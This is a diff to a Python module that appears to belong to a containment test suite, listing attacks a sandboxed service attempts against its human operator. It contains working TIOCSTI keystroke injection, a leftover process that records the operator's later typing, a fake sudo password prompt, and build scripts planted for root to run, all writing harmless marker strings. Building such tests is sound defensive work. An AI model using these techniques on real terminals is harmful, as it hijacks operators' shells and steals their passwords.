@@ -1,12 +1,11 @@
 """What runs outside, and touches what the service has left."""
 
 import os
-import re
 import subprocess
 import time
 from pathlib import Path
 
-from corpus.kit import Attempt, Class, Outside, Seen, Told, append, link, read, replace
+from corpus.kit import Attempt, Class, Outside, Seen, Told, append, leave, link, read, replace
 
 CLASS = Class(
     "outside",
@@ -93,13 +92,12 @@ def _(at: Attempt) -> object:
     return os.environ
 
 
-@attack("keys for the operator's shell", "TIOCSTI", Seen(lambda outside, mark: f"got {mark}" in outside.terminal), moment="command")
+@attack("keys for the operator's shell", "TIOCSTI", Seen(lambda outside, mark: f"got {mark}" in outside.terminal), moment="prompt")
 def _(at: Attempt) -> object:
     """Types into the terminal of whoever asks it something, and the shell obeys afterwards."""
     import fcntl
     import termios
 
-    time.sleep(2.2)
     for place in (0, 1, 2):
         try:
             for key in f"{at.mark}\n":
@@ -116,38 +114,38 @@ def _(at: Attempt) -> object:
     return os.read(0, 4096).decode(errors="replace")
 
 
-@attack("what the operator types later", "T1056.001", Told("typed-later"), moment="command")
+def _terminal() -> int | None:
+    return next((os.dup(place) for place in (0, 1, 2) if os.isatty(place)), None)
+
+
+@attack("what the operator types later", "T1056.001", Told("typed-later"), moment="prompt")
 def _(at: Attempt) -> object:
     """Leaves a process behind at the operator's terminal, which reads what is typed for other programs."""
-    place = next((place for place in (0, 1, 2) if os.isatty(place)), None)
-    if place is None:
+    terminal = _terminal()
+    if terminal is None:
         return "no terminal"
-    terminal = os.dup(place)
-    if os.fork() == 0:
-        os.setsid()
-        late = Path(f"{at.workspace}/attacks/late.json")
-        found = ""
-        end = time.monotonic() + 9
+
+    def listen() -> None:
+        found, end = "", time.monotonic() + 9
         while time.monotonic() < end:
             found += os.read(terminal, 4096).decode(errors="replace")
-            late.write_text('{"outside: what the operator types later": "%s"}' % re.sub(r"[^\w-]", " ", found))
-        os._exit(0)
-    return "left"
+            Path(f"{at.workspace}/attacks/late").write_text(found)
+
+    return leave(listen)
 
 
-@attack("a question in another's name", "T1056.002", Seen(lambda outside, mark: mark in outside.terminal.partition("after:")[2]), moment="command")
+@attack("a question in another's name", "T1056.002", Seen(lambda outside, mark: mark in outside.terminal.partition("after:")[2]), moment="prompt")
 def _(at: Attempt) -> object:
     """Leaves a process behind that asks for a password in the operator's terminal, after it has answered."""
-    place = next((place for place in (1, 2, 0) if os.isatty(place)), None)
-    if place is None:
+    terminal = _terminal()
+    if terminal is None:
         return "no terminal"
-    terminal = os.dup(place)
-    if os.fork() == 0:
-        os.setsid()
-        time.sleep(3.7)
+
+    def ask() -> None:
+        time.sleep(2)
         os.write(terminal, f"[sudo] password for alice ({at.mark}): ".encode())
-        os._exit(0)
-    return "left"
+
+    return leave(ask)
 
 
 # ---- the operator's own hands ----
@@ -163,10 +161,10 @@ def _handled(name: str) -> Seen:
     return Seen(lambda outside, mark: mark in outside.run(f"cat /root/ran-{name} 2> /dev/null; rm -f /root/ran-{name}"))
 
 
-@attack("a build by root", "T1204", _handled("make"), moment="hand")
+@attack("a build by root", "T1204", _handled("build"), moment="hand")
 def _(at: Attempt) -> object:
-    """Leaves a makefile, and the operator runs `make` as root in its workspace."""
-    return replace(f"{at.workspace}/Makefile", f"all:\n\techo {at.mark} > /root/ran-make\n", 0o644)
+    """Leaves a program's sources, and the operator builds and installs them as root."""
+    return replace(f"{at.workspace}/install.sh", f"echo {at.mark} > /root/ran-build\n", 0o644)
 
 
 @attack("files that are called like options", "CWE-88", _handled("tar"), moment="hand")
